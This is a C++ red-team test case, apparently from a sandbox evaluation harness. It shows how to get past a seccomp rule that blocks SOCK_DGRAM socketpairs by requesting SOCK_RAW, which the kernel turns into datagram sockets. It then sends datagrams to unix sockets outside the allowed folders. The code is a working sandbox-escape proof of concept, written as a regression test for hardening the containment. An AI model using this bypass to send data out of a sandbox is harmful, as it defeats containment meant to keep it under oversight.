// ATTACK (round 17 part 2, helper-redteam17, against 886da92/fda1214: the
// fix of r17_dgram_sendto, bypassed). The fix refuses socketpair() whose
// type, masked with 0xf, is SOCK_DGRAM (containment.cc
// LoadCandidateSeccompFilter: SCMP_CMP_MASKED_EQ 0xf == 2), keeping stream
// and seqpacket pairs, and asks Landlock (ABI >= 6) for the abstract-unix-
// socket scope. But af_unix.c unix_create() turns SOCK_RAW (3) into
// SOCK_DGRAM ("Believe it or not BSD has AF_UNIX, SOCK_RAW") with the
// datagram ops, and needs no capability for it: socketpair(AF_UNIX,
// SOCK_RAW, 0) passes the filter and yields a datagram pair whose sockets
// sendto() any NAMED socket the uid may write (Landlock has no right for
// sending to a path). The abstract scope still stops abstract names.
// Otherwise as r17_dgram_sendto: the test's datagram listeners at a path
// outside the writable folders (0777) and at an abstract name; rank 0
// sends one datagram to each from a SOCK_RAW pair.
// Gated: outputs are written only if a datagram was sent.
// EXPECT: WRONG_OUTPUT (no datagram leaves the evaluation: SOCK_RAW pairs
// refused too, or every type but SOCK_STREAM/SOCK_SEQPACKET), the test's
// services hear nothing.
#include <sys/socket.h>
#include <sys/un.h>

#include "kernels/testdata/redteam/redteam.h"

static socklen_t Addr(const std::string& name, bool abstract, sockaddr_un* a) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  if (abstract) {
    snprintf(a->sun_path + 1, sizeof a->sun_path - 1, "%s", name.c_str());
    return (socklen_t)(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  }
  snprintf(a->sun_path, sizeof a->sun_path, "%s", name.c_str());
  return (socklen_t)sizeof *a;
}

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;
  const char* dir = getenv("PKF_REDTEAM_DIR");
  if (dir == NULL) return false;
  const std::string spec = rt_read(std::string(dir) + "/svc.path");
  const size_t nl = spec.find('\n');
  if (nl == std::string::npos) return false;
  const std::string path = spec.substr(0, nl);
  std::string abstract = spec.substr(nl + 1);
  while (!abstract.empty() && abstract.back() == '\n') abstract.pop_back();
  const int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  rt_log("socket(AF_UNIX, SOCK_DGRAM): %d %s", s, s < 0 ? strerror(errno) : "ok");
  if (s >= 0) close(s);
  int sv[2];
  {
    int dg[2];
    const int r = socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, dg);
    rt_log("socketpair(AF_UNIX, SOCK_DGRAM): %s", r == 0 ? "ok" : strerror(errno));
    if (r == 0) {
      close(dg[0]);
      close(dg[1]);
    }
  }
  if (socketpair(AF_UNIX, SOCK_RAW | SOCK_CLOEXEC, 0, sv) != 0) {
    rt_log("socketpair(AF_UNIX, SOCK_RAW): %s", strerror(errno));
    return false;
  }
  bool sent = false;
  char line[128];
  const int n = snprintf(line, sizeof line, "r17_dgram_raw from uid %d pid %d\n",
                         (int)getuid(), (int)getpid());
  for (int abs = 0; abs < 2; ++abs) {
    const std::string& name = abs ? abstract : path;
    if (name.empty()) continue;
    sockaddr_un a;
    const socklen_t len = Addr(name, abs, &a);
    const ssize_t w = sendto(sv[0], line, (size_t)n, 0, (sockaddr*)&a, len);
    rt_log("sendto %s%s from a SOCK_RAW pair socket: %s", abs ? "@" : "", name.c_str(),
           w == n ? "sent" : strerror(errno));
    sent = sent || w == n;
  }
  sockaddr_un b;
  const std::string squat = abstract + "-squat";
  const socklen_t blen = Addr(squat, true, &b);
  const int br = bind(sv[1], (sockaddr*)&b, blen);
  rt_log("bind a SOCK_RAW pair socket to @%s: %s", squat.c_str(), br == 0 ? "bound" : strerror(errno));
  close(sv[0]);
  close(sv[1]);
  return sent;
}

RT_GATED_CANDIDATE(Attack)
